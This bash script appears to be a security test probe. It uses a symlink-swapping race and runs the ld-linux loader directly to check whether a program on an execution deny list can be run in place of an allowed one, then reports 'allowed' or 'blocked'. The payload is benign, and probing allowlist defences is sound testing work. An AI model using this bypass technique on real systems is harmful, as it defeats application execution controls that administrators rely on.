#!/bin/bash
# attack: a link to an allowed program is exchanged for one to a denied program, before the dynamic loader opens it
set -u
cd "$(mktemp -d "${WORKDIR:-/tmp}/own.XXXXXX")" || { echo "RESULT error workdir"; exit; }
result() { kill "$flip" 2>/dev/null; echo "RESULT $*"; exit; }
flip=
command -v perl >/dev/null || result error no-perl
ld=$(ldd /usr/bin/true | awk '/ld-linux/ { print $1 }')
[ -n "$ld" ] || result error no-loader
cp /usr/bin/true good-tool; cp /usr/bin/uname denied-tool
perl -e 'for (;;) { for my $to ("good-tool", "denied-tool") { symlink $to, "t"; rename "t", "s" } }' & flip=$!
for ((i = 0; i < 400; i++)); do [ -n "$("$ld" ./s 2>/dev/null)" ] && result allowed; done
result blocked
